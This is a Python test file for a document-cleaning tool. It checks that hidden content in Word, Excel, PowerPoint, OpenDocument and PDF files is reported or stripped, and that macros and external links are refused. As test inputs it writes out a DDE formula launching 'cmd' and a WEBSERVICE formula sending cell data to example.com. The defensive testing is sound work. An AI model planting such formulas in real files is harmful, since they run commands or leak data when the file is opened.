"""What documents hide from who opens them, place by place: told (CV522), stripped or refused."""

import io
import zipfile
from collections.abc import Callable
from functools import cache

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf

from congvan.contents.public import signs_of_public
from congvan.model.terms import Audience
from congvan.model.text import Language, said
from congvan.publish.attachments.cleaning import clean
from tests.unit.publish.attachments import documents as made

_word, _sheet = cache(made.small_word), cache(made.sheet)
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
_P = "http://schemas.openxmlformats.org/presentationml/2006/main"


def written(words: str) -> bytes:
    """A document with these elements before its paragraphs."""
    return made.repacked(_word(), {"word/document.xml": (b"<w:body>", f"<w:body>{words}".encode())})


def run(properties: str, before: str = "", after: str = "") -> bytes:
    """A document with a run of text that looks so."""
    return written(f"<w:p>{before}<w:r><w:rPr>{properties}</w:rPr><w:t>x</w:t></w:r>{after}</w:p>")


def vml(attributes: str, within: str = "") -> bytes:
    """A document with an older drawing."""
    shape = f'<v:shape xmlns:v="urn:schemas-microsoft-com:vml" {attributes}>{within}</v:shape>'
    return written(f"<w:p><w:r><w:pict>{shape}</w:pict></w:r></w:p>")


def drawn(words: str) -> bytes:
    """A document with an element of a newer drawing."""
    return written(f'<w:p><w:r><a:x xmlns:a="{_A}">{words}</a:x></w:r></w:p>')


def cells(words: str, comment: str = "") -> bytes:
    """A workbook whose sheet has these elements before its cells."""
    change = b"<sheetData>", f"{comment}{words}<sheetData>".encode()
    return made.repacked(_sheet(), {"xl/worksheets/sheet1.xml": change})


def formula(words: str, comment: str = "") -> bytes:
    """A workbook with this formula."""
    return made.repacked(_sheet(), {"xl/worksheets/sheet1.xml": (b"<f>A2*2</f>", f"{comment}<f>{words}</f>".encode())})


def book(words: str) -> bytes:
    """A workbook with these elements before its list of sheets."""
    return made.repacked(_sheet(), {"xl/workbook.xml": (b"<sheets>", f"{words}<sheets>".encode())})


def slide(x: int, inside: str = "", attributes: str = "") -> bytes:
    """A presentation of a slide 1000 wide with a shape at that place."""
    place = f'<p:spPr><a:xfrm xmlns:a="{_A}"><a:off x="{x}" y="0"/><a:ext cx="100" cy="100"/></a:xfrm></p:spPr>'
    tree = f"<p:cSld><p:spTree><p:sp>{place}</p:sp>{inside}</p:spTree></p:cSld>"
    return made.repacked(made.slides(), {
        "ppt/presentation.xml": (b"/>", b'><p:sldSz cx="1000" cy="700"/></p:presentation>'),
        "ppt/slides/slide1.xml": f'<p:sld xmlns:p="{_P}"{attributes}>{tree}</p:sld>'.encode(),
    })  # fmt: skip


def linked(kind: str, data: bytes, part: str = "word/document.xml", content: bytes = b"<x/>") -> bytes:
    """A package with one more relationship of that kind."""
    folder, _, name = part.rpartition("/")
    relation = f'<Relationship Id="r88" Type="{_R}/{kind}" Target="zq.xml"/></Relationships>'.encode()
    return made.repacked(
        data, {f"{folder}/_rels/{name}.rels": (b"</Relationships>", relation), f"{folder}/zq.xml": content}
    )


def layered(**shown: object) -> bytes:
    """A PDF with a layer that is configured so."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name="x"))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary({f"/{key}": x for key, x in shown.items()}))
    return made.saved(pdf)


def cut(*box: int) -> bytes:
    """A PDF of which a page shows so much."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 100)).obj.CropBox = Array(box)
    return made.saved(pdf)


def odt_shape(attributes: str) -> bytes:
    """A text of OpenDocument with a shape."""
    return made.odt(f'<draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" {attributes}/>')


def odt_style(words: str) -> bytes:
    """A text of OpenDocument with a style."""
    spaces = "".join(
        f' xmlns:{x}="urn:oasis:names:tc:opendocument:xmlns:{y}:1.0"'
        for x, y in (("presentation", "presentation"), ("fo", "xsl-fo-compatible"))
    )
    return made.odt(styles=f'<style:style style:name="a"><style:{words}{spaces}/></style:style>')


_OFF_PAGE = 'style="position:absolute;margin-left:-9999pt;width:10pt"'
_OLD_NOTE = '<x:ClientData xmlns:x="urn:schemas-microsoft-com:office:excel" ObjectType="Note"/>'
HIDDEN: list[tuple[str, str, str, Callable[[], bytes]]] = [
    ("docx", "hidden text", "vanish", lambda: run("<w:vanish/>")),
    ("docx", "hidden text", "specVanish", lambda: run("<w:specVanish/>")),
    ("docx", "hidden text", "a row", lambda: written("<w:tbl><w:tr><w:trPr><w:hidden/></w:trPr></w:tr></w:tbl>")),
    ("docx", "white or too small", "white", lambda: run('<w:color w:val="FFFFFF"/>')),
    ("docx", "white or too small", "tiny", lambda: run('<w:sz w:val="2"/>')),
    ("docx", "picture or shape", "VML hidden", lambda: vml('style="visibility:hidden"')),
    ("docx", "picture or shape", "VML none", lambda: vml("style='width:9pt; display : none'")),
    ("docx", "picture or shape", "VML off the page", lambda: vml(_OFF_PAGE)),
    ("docx", "picture or shape", "DrawingML", lambda: drawn('<a:docPr hidden="true"/>')),
    ("docx", "cut off", "DrawingML", lambda: drawn('<a:srcRect l="0" r="25000"/>')),
    ("docx", "cut off", "VML", lambda: vml("", '<v:imagedata croptop="9830f"/>')),
    ("xlsx", "hidden sheet", "hidden", lambda: made.repacked(_sheet(), {
        "xl/workbook.xml": (b'state="visible"', b'state="hidden"')})),
    ("xlsx", "hidden sheet", "very hidden", lambda: made.repacked(_sheet(), {
        "xl/workbook.xml": (b'state="visible"', b'state="veryHidden"')})),
    ("xlsx", "hidden rows", "columns", lambda: cells('<cols><col min="1" max="1" hidden="1"/></cols>')),
    ("xlsx", "hidden rows", "no width", lambda: cells('<cols><col min="1" width="0" max="1"/></cols>')),
    ("xlsx", "hidden rows", "beside a remark", lambda: cells('<cols><col min="1" hidden="1"/></cols>', "<!-- x -->")),
    ("xlsx", "hidden rows", "by number", lambda: cells('<cols><col min="1" hidden="&#49;"/></cols>')),
    ("xlsx", "shows nothing", "a format", lambda: made.repacked(_sheet(), {
        "xl/styles.xml": (b"<fonts", b'<numFmts><numFmt numFmtId="170" formatCode=";;;"/></numFmts><fonts')})),
    ("xlsx", "hidden names", "a name", lambda: book(
        '<definedNames><definedName name="a" hidden="1">1</definedName></definedNames>')),
    ("xlsx", "pivot table", "its figures", lambda: linked("pivotCacheRecords", _sheet(), "xl/workbook.xml")),
    ("xlsx", "pivot table", "its items", lambda: linked("pivotCacheDefinition", _sheet(), "xl/workbook.xml")),
    ("pptx", "hidden slide", "show", lambda: slide(0, attributes=' show="0"')),
    ("pptx", "notes", "a part", lambda: linked("notesSlide", made.slides(), "ppt/slides/slide1.xml")),
    ("pptx", "beside the slide", "right", lambda: slide(1001)),
    ("pptx", "beside the slide", "left", lambda: slide(-101)),
    ("odt", "hidden text", "paragraph", lambda: made.odt("<text:hidden-paragraph>x</text:hidden-paragraph>")),
    ("odt", "hidden text", "section", lambda: made.odt('<text:section text:display="none"><text:p/></text:section>')),
    ("odt", "hidden text", "section on a condition", lambda: made.odt('<text:section text:display="condition"/>')),
    ("odt", "hidden text", "a user's field", lambda: made.odt(
        '<text:user-field-get text:display="none">x</text:user-field-get>')),
    ("odt", "who wrote", "author", lambda: made.odt("<text:p><text:author-name>x</text:author-name></text:p>")),
    ("odt", "picture or shape", "a frame", lambda: odt_shape('draw:display="none"')),
    ("odt", "hidden slide", "style", lambda: odt_style('drawing-page-properties presentation:visibility="hidden"')),
    ("odt", "cut off", "clip", lambda: odt_style('graphic-properties fo:clip="rect(0cm, 2.5cm, 0cm, 0cm)"')),
    ("pdf", "hidden layer", "all but some", lambda: layered(BaseState=Name.OFF, ON=Array([]))),
    ("pdf", "hidden layer", "one", lambda: made.saved(_one_layer())),
    ("pdf", "cut off", "a crop box", lambda: cut(20, 0, 200, 100)),
]  # fmt: skip


def _one_layer() -> Pdf:
    pdf = Pdf.open(io.BytesIO(layered()))
    pdf.Root.OCProperties.D.OFF = Array([pdf.Root.OCProperties.OCGs[0]])
    return pdf


def told(data: bytes, ending: str) -> list[str]:
    """The warnings of a file, in words."""
    found = [x for x in signs_of_public(data, ending) if x.rule.code == "CV522"]
    return [said(x.what, Language.EN, Audience.PUBLIC) for x in found]


@pytest.mark.parametrize(
    ("ending", "words", "make"), [(x[0], x[1], x[3]) for x in HIDDEN], ids=[f"{x[0]} {x[1]}, {x[2]}" for x in HIDDEN]
)
def test_what_is_hidden_is_told(ending: str, words: str, make: Callable[[], bytes]) -> None:
    """By what it is, once; it is published if its writer wants it so."""
    assert [words in x for x in told(make(), ending)] == [True]
    clean(make(), ending)


SEEN: list[tuple[str, str, Callable[[], bytes]]] = [
    ("docx", "white in a cell", lambda: written(
        '<w:tbl><w:tc><w:p><w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:t>x</w:t></w:r></w:p></w:tc></w:tbl>')),
    ("docx", "white on a colour", lambda: run('<w:color w:val="FFFFFF"/><w:shd w:val="clear" w:fill="1F4E79"/>')),
    ("docx", "white in a coloured paragraph", lambda: run(
        '<w:color w:val="FFFFFF"/>', '<w:pPr><w:shd w:val="clear" w:fill="C00000"/></w:pPr>')),
    ("docx", "an empty white run", lambda: written('<w:p><w:r><w:rPr><w:sz w:val="2"/></w:rPr></w:r></w:p>')),
    ("docx", "a style that lists do not show", lambda: made.repacked(
        _word(), {"word/styles.xml": (b"</w:styles>", b'<w:style><w:hidden/></w:style></w:styles>')})),
    ("docx", "a picture cut nowhere", lambda: drawn('<a:srcRect/><a:srcRect l="0" r="-200"/>')),
    ("docx", "an old shape", lambda: vml('style="margin-left:-20pt;visibility:visible"')),
    ("docx", "the frame of a remark", lambda: vml('style="visibility:hidden"', _OLD_NOTE)),
    ("xlsx", "names that Excel hides", lambda: book(
        '<definedNames><definedName name="_xlnm._FilterDatabase" hidden="1">1</definedName></definedNames>')),
    ("xlsx", "its own notes", _sheet),
    ("pptx", "a shape that reaches out", lambda: slide(950)),
    ("pptx", "a shape within a group, by its own measure", lambda: slide(
        0, f'<p:grpSp><p:sp><p:spPr><a:xfrm xmlns:a="{_A}"><a:off x="5000" y="0"/><a:ext cx="1" cy="1"/></a:xfrm>'
        "</p:spPr></p:sp></p:grpSp>")),
    ("odt", "a shown section", lambda: made.odt('<text:section text:display="true"/>')),
    ("odt", "a picture cut nowhere", lambda: odt_style('graphic-properties fo:clip="rect(0cm, 0cm, 0cm, 0cm)"')),
    ("pdf", "a layer that is shown", lambda: layered(OFF=Array([]))),
    ("pdf", "a crop box as large as the page", lambda: cut(0, 0, 200, 100)),
]  # fmt: skip


@pytest.mark.parametrize(("ending", "make"), [(x[0], x[2]) for x in SEEN], ids=[f"{x[0]} {x[1]}" for x in SEEN])
def test_what_is_seen_is_no_matter(ending: str, make: Callable[[], bytes]) -> None:
    """Good neighbours."""
    assert told(make(), ending) == []


_GONE = (
    "extendedProperties", "changesInfo", "revisionInfo", "documenttasks", "webextension", "intelligence",
    "namedSheetView", "hdphoto", "calcChain", "customXml", "thumbnail", "people", "tags", "customStorage",
    "extensibility",
)  # fmt: skip


@pytest.mark.parametrize("kind", _GONE)
def test_parts_that_no_reader_needs_are_left_out(kind: str) -> None:
    """Who worked on it, tasks, views of single users, what programs added; the picture before its effects."""
    with zipfile.ZipFile(io.BytesIO(clean(linked(kind, _word(), content=b"<x>zqsecret</x>"), "docx"))) as package:
        assert not [x for x in package.namelist() if b"zq" in package.read(x) or "zq" in x]


OUT = ' TargetMode="External"'
REFUSED: list[tuple[str, str, str, Callable[[], bytes]]] = [
    ("CV520", "docx", "a part of no known kind", lambda: linked("newThing", _word())),
    ("CV520", "pptx", "a film", lambda: linked("video", made.slides(), "ppt/slides/slide1.xml")),
    ("CV521", "xlsx", "a data model", lambda: linked("powerPivotData", _sheet(), "xl/workbook.xml")),
    ("CV521", "xlsx", "figures of another workbook", lambda: linked("externalLink", _sheet(), "xl/workbook.xml")),
    ("CV521", "docx", "a field that leads to a machine", lambda: written(
        '<w:p><w:r><w:instrText>HYPERLINK "\\\\\\\\may-chu\\\\a.docx"</w:instrText></w:r></w:p>')),
    ("CV521", "docx", "a field that leads to a disk", lambda: written(
        '<w:p><w:fldSimple w:instr="HYPERLINK &quot;C:\\a.docx&quot;"/></w:p>')),
    ("CV521", "xlsx", "a formula that fetches", lambda: formula('_xlfn.WEBSERVICE("https://example.com/?"&amp;A1)')),
    ("CV521", "xlsx", "a formula that fetches, in a name", lambda: book(
        '<definedNames><definedName name="a">WEBSERVICE("https://example.com/")</definedName></definedNames>')),
    ("CV520", "xlsx", "a formula that starts a program", lambda: formula("DDE(&quot;cmd&quot;;1;2)")),
    ("CV521", "xlsx", "the same by number", lambda: formula("&#87;EBSERVICE(1)")),
    ("CV520", "xlsx", "the same beside a remark", lambda: formula("DDE(1;2;3)", "<!-- x -->")),
    ("CV509", "xlsx", "a sheet of macros by its type", lambda: made.repacked(_sheet(), {"[Content_Types].xml": (
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
        b"application/vnd.ms-excel.macrosheet+xml")})),
    ("CV509", "docx", "macros by their type", lambda: made.repacked(_word(), {"[Content_Types].xml": (
        b"</Types>", b'<Override PartName="/a" ContentType="application/vnd.ms-office.vbaProject"/></Types>')})),
    ("CV520", "odt", "a formula that starts a program", lambda: made.odt(
        '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;1;2)"/>')),
    ("CV509", "odt", "a script's field", lambda: made.odt("<text:p><text:script>1</text:script></text:p>")),
    ("CV509", "odt", "dialogues of macros", lambda: made.odt(**{"Dialogs/Standard/a.xml": "<x/>"})),
]  # fmt: skip


@pytest.mark.parametrize(
    ("code", "ending", "make"), [(x[0], x[1], x[3]) for x in REFUSED], ids=[f"{x[1]} {x[2]}" for x in REFUSED]
)
def test_what_runs_or_leads_away_is_refused(code: str, ending: str, make: Callable[[], bytes]) -> None:
    """By the quick look, so `congvan check` gives line and column of the declaration."""
    assert [x.rule.code for x in signs_of_public(make(), ending) if x.refuses] == [code]


@pytest.mark.parametrize("words", ['IF(A1&gt;1,"CALL (x)",2)', "SUM(A1:A2)", "RECALL(A1)"])
def test_usual_formulas_are_published(words: str) -> None:
    """Words that only look like it."""
    assert not [x for x in signs_of_public(formula(words.replace('"CALL (x)"', '"x"')), "xlsx") if x.refuses]


@pytest.mark.parametrize(("flags", "left"), [(2, 0), (32, 0), (4, 1)])
def test_marks_of_a_pdf_that_no_screen_shows_are_taken_out(flags: int, left: int) -> None:
    """Typed words too."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page()
    mark = Dictionary(Type=Name.Annot, Subtype=Name.FreeText, Rect=Array([0, 0, 9, 9]), F=flags, Contents="zqtyped")
    page.obj.Annots = Array([mark])
    copy = clean(made.saved(pdf), "pdf")
    with Pdf.open(io.BytesIO(copy)) as kept:
        assert len(kept.pages[0].obj.Annots) == left
